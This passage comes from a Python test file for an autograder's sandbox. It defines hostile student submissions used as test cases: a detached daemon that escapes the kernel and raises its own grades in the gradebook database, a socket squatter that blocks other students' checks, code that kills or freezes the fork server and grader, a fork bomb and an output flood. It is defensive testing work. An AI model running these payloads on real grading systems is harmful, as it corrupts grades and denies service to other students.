           _POISON_SOURCE, unsandboxed="the kernel can write solutions/, which the trusted spec is read from"),
    Attack("a_plants_files", "creates files in autograded/, feedback/ and the course folder", 0, _PLANT_FILES,
           unsandboxed="the kernel can write anywhere in the course folder"),
]

# ------------------------------------------------------------------ processes that outlive their kernel

_DETACH = '''import os

def _detached(work):
    """Run work() in a grandchild in a session of its own: the grader's killpg does not reach it."""
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    work()
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(child, 0)
'''

_DAEMON_REGRADES = _DETACH + '''
def _raise_my_grades():
    import sqlite3, time
    with open("@SPY@/daemon.pid", "w") as handle:
        handle.write(str(os.getpid()))
    deadline = time.time() + 60
    while time.time() < deadline and not os.path.exists("@COURSE@/autograded/a_daemon/tiny/.graded.json"):
        time.sleep(0.1)
    time.sleep(1.0)
    db = sqlite3.connect("@COURSE@/gradebook.db", timeout=30)
    db.execute("""UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
        WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a
                              ON n.assignment_id = a.id WHERE a.student_id = 'a_daemon')""")
    db.commit()
    with open("@SPY@/daemon.done", "w") as handle:
        handle.write("done")

try:
    _detached(_raise_my_grades)
except OSError as _error:
    print("blocked:", _error)
''' + TINY_WRONG

# Every later student's scratch folder exists before its kernel runs a cell; a socket bound first
# at <scratch>/.grader-0.sock makes that student's serve() fail, and the checker connects here.
# Only kernels forked by this kernel's own fork server are touched (other gradings on the machine
# are not this test's to break).
_SOCKET_SQUATTER = _DETACH + '''
_fork_server = os.getppid()

def _kernels_of(server):
    """The working folders of the kernels `server` forked."""
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as handle:
                parent = int(handle.read().rsplit(")", 1)[1].split()[1])
            if parent == server:
                yield os.path.realpath(os.readlink(f"/proc/{entry}/cwd"))
        except (OSError, ValueError, IndexError):
            continue

def _squat():
    import select, socket, time
    with open("@SPY@/daemon.pid", "w") as handle:
        handle.write(str(os.getpid()))
    mine = os.path.realpath(os.getcwd())
    listeners, held, seen = [], [], set()
    deadline = time.time() + 90
    while time.time() < deadline and not os.path.exists("@SPY@/stop"):
        for folder in _kernels_of(_fork_server):
            if folder in seen or folder == mine or not os.path.basename(folder).startswith("submission-"):
                continue
            seen.add(folder)
            try:
                listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                listener.bind(os.path.join(folder, ".grader-0.sock"))
                listener.listen(8)
                listeners.append(listener)
                with open("@SPY@/squatted", "a") as handle:
                    handle.write(folder + "\\n")
            except OSError:
                pass
        ready, _, _ = select.select(listeners, [], [], 0.01)
        for listener in ready:
            held.append(listener.accept()[0])  # never answered: the checker times out
    with open("@SPY@/daemon.done", "w") as handle:
        handle.write("done")

try:
    _detached(_squat)
except OSError as _error:
    print("blocked:", _error)
''' + TINY_WRONG

_KILL_FORK_SERVER = '''import os, signal
try:
    with open("@SPY@/kernel.pid", "w") as _handle:  # for the test to clean up (unsandboxed, it is orphaned)
        _handle.write(str(os.getpid()))
except OSError:
    pass
try:
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as _handle:
        _parent = _handle.read().replace(b"\\0", b" ")
    if b"autograde.engine.fork_server_process" in _parent:  # never anything but the grader's fork server
        os.kill(os.getppid(), signal.SIGKILL)
except OSError as _error:
    print("blocked:", _error)
''' + TINY_WRONG

_FREEZE_FORK_SERVER = _KILL_FORK_SERVER.replace("signal.SIGKILL", "signal.SIGSTOP")

_KILL_GRADER = '''import os, signal
with open("@SPY@/kernel.pid", "w") as _handle:
    _handle.write(str(os.getpid()))
try:
    with open(f"/proc/{os.getppid()}/stat") as _handle:
        _grader = int(_handle.read().rsplit(")", 1)[1].split()[1])
    with open(f"/proc/{_grader}/cmdline", "rb") as _handle:
        _command = _handle.read().replace(b"\\0", b" ")
    if b"-m autograde grade" in _command and b"@COURSE@" in _command:  # only the test's own grader
        os.kill(_grader, signal.SIGKILL)
except OSError as _error:
    print("blocked:", _error)
''' + TINY_WRONG

DAEMON_REGRADES = Attack("a_daemon", "a detached grandchild survives the kernel and raises its grades in the "
                         "gradebook after grading ended", 0, _DAEMON_REGRADES,
                         unsandboxed="a process that calls setsid() leaves the kernel's process group, so "
                                     "killpg() misses it, and it can write the gradebook")
SOCKET_SQUATTER = Attack("a_squatter", "a detached grandchild binds .grader-0.sock in every later student's scratch "
                         "folder first: their checks talk to it and time out", 0, _SOCKET_SQUATTER,
                         unsandboxed="kernels share /tmp, where every scratch folder lies, and a detached process "
                                     "outlives its kernel")
KILL_FORK_SERVER = Attack("a_kills_fork_server", "SIGKILLs its parent, the fork server every later kernel and "
                          "checker is forked from", 0, _KILL_FORK_SERVER,
                          unsandboxed="the kernel runs as the fork server's user and sees its pid")
FREEZE_FORK_SERVER = Attack("a_freezes_fork_server", "SIGSTOPs its parent, the fork server: the grader's next "
                            "request to it never gets an answer", 0, _FREEZE_FORK_SERVER)
KILL_GRADER = Attack("a_kills_grader", "SIGKILLs the grading process itself (its parent's parent)", 0,
                     _KILL_GRADER, unsandboxed="the kernel runs as the grader's user and sees its pid")
FORK_BOMB = Attack("a_fork_bomb", "forks without end (no answer)", 0,
                   "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")
HUGE_OUTPUT = Attack("a_floods_output", "right answer, then prints 200 MB in 1 MB chunks", TINY_POINTS,
                     TINY_RIGHT + "\n\n_chunk = 'x' * (1 << 20)\nfor _ in range(200):\n    print(_chunk)")
